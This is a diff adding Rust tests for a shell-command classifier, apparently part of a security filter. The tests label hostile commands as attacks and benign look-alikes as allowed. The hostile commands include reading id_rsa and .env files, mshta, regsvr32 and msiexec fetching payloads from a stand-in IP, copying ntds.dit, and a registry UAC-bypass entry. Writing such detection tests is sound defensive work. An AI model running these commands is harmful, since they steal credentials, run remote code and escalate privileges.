@@ -103,3 +103,50 @@ fn shells_and_native_code_started_by_other_programs() {
     flows("psql -c \"LOAD 'auto_explain'\"");
     flows("osascript -e 'tell application \"Finder\" to open home'");
 }
+
+#[test]
+fn find_with_a_name_filter_names_the_files_it_hands_on() {
+    attack(
+        "find . -name id_rsa -exec cat {} \\;",
+        Effect::CredentialRead,
+    );
+    attack(
+        "find . -name '.env*' -type f -exec grep -H . {} +",
+        Effect::CredentialRead,
+    );
+    flows("find . -name node_modules -type d -prune -exec rm -rf {} +");
+    flows("find . -name '*.py' -exec grep -n TODO {} +");
+    flows("find . -type f -name '*.log' -exec gzip {} \\;");
+}
+
+#[test]
+fn windows_programs_that_run_load_or_copy_for_you() {
+    attack("mshta http://203.0.113.9/p.hta", Effect::DownloadExec);
+    attack(
+        "regsvr32 /s /n /u /i:http://203.0.113.9/f.sct scrobj.dll",
+        Effect::DownloadExec,
+    );
+    attack(
+        "msiexec /q /i http://203.0.113.9/p.msi",
+        Effect::DownloadExec,
+    );
+    attack(
+        "rundll32.exe C:\\Users\\Public\\evil.dll,Start",
+        Effect::PrivilegeEscalation,
+    );
+    attack(
+        "forfiles /p C:\\Windows\\System32 /m notepad.exe /c \"cmd.exe /k\"",
+        Effect::Shell,
+    );
+    attack(
+        "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Windows\\Temp\\n.dit",
+        Effect::CredentialRead,
+    );
+    attack(
+        "reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d cmd.exe /f",
+        Effect::PrivilegeEscalation,
+    );
+    flows("msiexec /i C:\\Downloads\\Git-2.45.0-64-bit.msi /qn");
+    flows("rundll32.exe shell32.dll,Control_RunDLL desk.cpl");
+    flows("forfiles /p C:\\logs /m *.log /d -30 /c \"cmd /c del @path\"");
+}
